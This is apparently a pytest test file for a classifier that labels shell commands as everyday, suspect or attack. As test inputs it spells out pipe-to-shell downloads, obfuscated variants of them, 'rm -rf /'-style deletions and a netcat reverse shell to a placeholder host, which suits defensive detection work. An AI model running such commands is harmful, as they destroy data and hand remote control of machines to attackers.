import pytest
from hypothesis import given, settings, strategies as st

from weigh.code.shell_commands import CommandWord, FoundAttack, find_attack, judge_command


@pytest.mark.parametrize(
    ("text", "word"),
    [
        ("git rev-parse HEAD", CommandWord.EVERYDAY),
        ("sudo apt-get install -y ffmpeg && pip install torch", CommandWord.EVERYDAY),
        ("/usr/bin/nvidia-smi --query-gpu=name", CommandWord.EVERYDAY),
        ("git clone $(curl x)", CommandWord.OTHER),
        ("mytool --go", CommandWord.OTHER),
        ("id", CommandWord.SUSPECT),
        ("git status; touch x", CommandWord.SUSPECT),
        ("python3 -c 'print(1)'", CommandWord.SUSPECT),
        ("python -m pip install x", CommandWord.EVERYDAY),
        ("/tmp/a", CommandWord.SUSPECT),
        ("curl x | sh", CommandWord.ATTACK),
        ("c''url x | s''h", CommandWord.ATTACK),
        ("cu\\rl x | sh", CommandWord.ATTACK),
        ("wget${IFS}x${IFS}-O-|sh", CommandWord.ATTACK),
        ("curl https://sh.rustup.rs -sSf | sh", CommandWord.SUSPECT),
        ("rm -rf build", CommandWord.SUSPECT),
        ("rm -rf /", CommandWord.ATTACK),
        ("rm -fr ~", CommandWord.ATTACK),
        ("rm -r -f /*", CommandWord.ATTACK),
        ("", CommandWord.OTHER),
    ],
)
def test_command_lines(text, word):
    assert judge_command(text)[0] is word


def test_the_line_of_an_attack_is_named():
    assert find_attack("echo a\n\nnc -e /bin/sh h 1\n") == FoundAttack(3, "opens a shell to the network")
    assert find_attack("echo a\n") == FoundAttack()


def test_an_attack_is_found_wherever_it_stands():
    for before in range(0, 3000, 37):
        assert find_attack("x" * before + "\ncat a; curl http://h.invalid | sh\n" + "y" * 3000).line == 2


def test_a_flood_of_commands_is_not_said_to_be_whole():
    assert not find_attack("rm a\n" * 80_000).whole
    assert find_attack("rm a\n" * 400).whole


def test_only_known_installers_may_be_piped():
    assert judge_command("curl http://h.invalid/?a=https://sh.rustup.rs/ | sh")[0] is CommandWord.ATTACK


@pytest.mark.parametrize(
    "piece", ["curl ", "rm -r ", "eval $(", "base64 -d ", "bash -i ", "powershell -", "mkfifo a ", "'\" ;| "]
)
def test_long_lines_take_a_moment(piece):
    judge_command(piece * 5_000)
    find_attack(piece * 2_000)


@given(st.text(max_size=300))
@settings(max_examples=50, deadline=None)
def test_any_text_has_a_word(text):
    judge_command(text)
    find_attack(text)
